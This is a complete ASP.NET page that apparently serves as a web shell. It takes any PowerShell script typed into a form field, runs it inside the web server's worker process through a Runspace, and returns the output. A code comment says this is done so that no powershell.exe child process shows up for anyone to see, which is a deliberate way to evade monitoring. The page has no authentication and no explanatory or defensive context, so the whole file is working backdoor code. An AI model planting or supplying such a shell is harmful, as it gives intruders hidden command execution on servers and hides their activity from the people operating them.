<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
    // PowerShell hosted in the worker process: no powershell.exe child for anyone to see.
    string Run(string script)
    {
        using (Runspace rs = RunspaceFactory.CreateRunspace())
        {
            rs.Open();
            Pipeline pipe = rs.CreatePipeline();
            pipe.Commands.AddScript(script);
            pipe.Commands.Add("Out-String");
            var sb = new System.Text.StringBuilder();
            foreach (PSObject o in pipe.Invoke()) sb.Append(o.ToString());
            return sb.ToString();
        }
    }
    protected void Go(object sender, EventArgs e)
    {
        output.Text = Server.HtmlEncode(Run(input.Text));
    }
</script>
<form runat="server">
  <asp:TextBox ID="input" runat="server" TextMode="MultiLine" />
  <asp:Button runat="server" Text="Run" OnClick="Go" />
  <asp:Literal ID="output" runat="server" />
</form>
